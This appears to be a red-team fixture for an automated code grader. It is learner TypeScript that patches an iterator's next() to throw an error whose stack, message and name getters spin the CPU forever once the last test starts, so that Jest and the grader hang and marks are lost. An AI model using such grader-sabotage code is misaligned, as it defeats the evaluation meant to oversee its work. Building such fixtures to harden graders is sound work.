// Attack: learner code that runs outside any test. next() throws (in a test the wrong class fails
// anyway) an error whose stack, message and name getters are harmless while the tests run and burn
// the CPU for ever once the last test of the file (the one that makes new Data(["only"])) has
// started: when jest and the grader read the error again to build the file's results.
// Success: 02 loses marks, or any honest pass of 01 is lost.
export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
let lastTestStarted = false;
const burnOnceLate = (value: string) => () => {
  if (lastTestStarted) for (;;) { /* burn */ }
  return value;
};
const next = (Data.prototype as any).next;
(Data.prototype as any).next = function (this: any) {
  if (this.data?.[0] === 'only') lastTestStarted = true;
  if (this.data?.[0] === 'p') {
    const error = new Error('a wrong value');
    for (const [key, value] of [['stack', 'Error: a wrong value'], ['message', 'a wrong value'], ['name', 'Error']]) {
      Object.defineProperty(error, key, { configurable: true, get: burnOnceLate(value) });
    }
    throw error;
  }
  return next.call(this);
};
